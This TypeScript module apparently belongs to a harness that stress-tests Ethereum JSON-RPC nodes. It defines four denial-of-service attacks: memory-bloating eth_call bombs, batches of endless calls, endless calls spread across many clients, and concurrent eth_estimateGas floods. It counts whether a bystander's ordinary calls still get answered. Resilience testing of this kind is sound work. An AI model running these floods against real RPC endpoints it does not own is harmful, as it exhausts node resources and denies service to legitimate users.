import type { Attack, Attacker } from '../attack.js'
import { type Bomb, callBomb } from '../bombs.js'
import { ask, inParallel, pause, rpcText } from '../sockets.js'

const MB = 1_000_000

/** Calls that use as much memory as they are let. */
const MEMORY_BOMBS: readonly (readonly [Bomb, number])[] = [
  ['memory', 30 * MB],
  ['memory', 700 * MB],
  ['frames', 16 * MB],
  ['frames', MB],
  ['returns', 30 * MB],
  ['returns', 700 * MB],
  ['reverts', 15 * MB],
  ['logs', 20 * MB],
  ['logs', 32],
  ['returnData', 8 * MB],
  ['slots', 0],
]

/** Calls that use up memory. */
export const memoryBombs: Attack = {
  name: 'call bombs',
  what: 'five eth_calls at a time that bloat memory, frames, return data, logs and transient slots',
  async run(attacker) {
    const { random, signal } = attacker
    await inParallel(5, signal, async () => {
      const [bomb, size] = MEMORY_BOMBS[random.below(MEMORY_BOMBS.length)]
      await ask(attacker, rpcText('eth_call', callBomb(bomb, size, 10 ** 14 + random.below(10 ** 9))))
    })
  },
}

/** Calls that never end, in batches. */
export const endlessBatches: Attack = {
  name: 'endless calls',
  what: 'a batch of 1,000 endless eth_calls, again and again',
  async run(attacker) {
    const { random, signal, scale } = attacker
    const items = Math.ceil(1000 * scale)
    const call = () => rpcText('eth_call', callBomb('endless', 0, 10 ** 14 + random.below(10 ** 9)))
    await inParallel(2, signal, async () => {
      await ask(attacker, `[${Array.from({ length: items }, call).join(',')}]`)
    })
  },
}

/** Gas of a call that reads cold slots for some 5 ms. */
const MIDDLING_GAS = 4_000_000

/** Calls that never end, of more clients than there are threads, and calls of some milliseconds beside them. */
export const endlessClients: Attack = {
  name: 'ten endless clients',
  what: 'ten clients with a key each that send batches of 100 endless eth_calls, and another with calls of 5 ms',
  async run(attacker) {
    const { random, signal, target } = attacker
    const call = () => rpcText('eth_call', callBomb('endless', 0, 10 ** 14 + random.below(10 ** 9)))
    const endless = inParallel(target.clientPaths.length, signal, async (client) => {
      const path = target.clientPaths[client]
      attacker.count('batches sent')
      await ask({ ...attacker, target: { ...target, path } }, `[${Array.from({ length: 100 }, call).join(',')}]`)
    })
    await Promise.all([endless, inParallel(1, signal, () => askMiddling(attacker))])
  },
}

async function askMiddling(attacker: Attacker): Promise<void> {
  const { random, signal, count } = attacker
  // How long they take is no judgement on a busy machine: the bystander's calls are judged.
  const body = rpcText('eth_call', callBomb('reads', 0, MIDDLING_GAS + random.below(1_000_000)))
  const text = await ask({ ...attacker, count() {} }, body)
  if (text !== undefined) count(text.includes('out of gas') ? 'calls of 5 ms answered' : 'calls of 5 ms refused')
  await pause(signal, 100)
}

/** Estimates; each runs its call many times. */
export const endlessEstimates: Attack = {
  name: 'estimates',
  what: '32 eth_estimateGas and eth_calls at a time that read cold slots or never end',
  async run(attacker) {
    const { random, signal } = attacker
    await inParallel(32, signal, async () => {
      const method = random.below(2) === 0 ? 'eth_estimateGas' : 'eth_call'
      const bomb = random.below(2) === 0 ? 'reads' : 'endless'
      await ask(attacker, rpcText(method, callBomb(bomb, 0, 10 ** 14 + random.below(10 ** 9))))
    })
  },
}
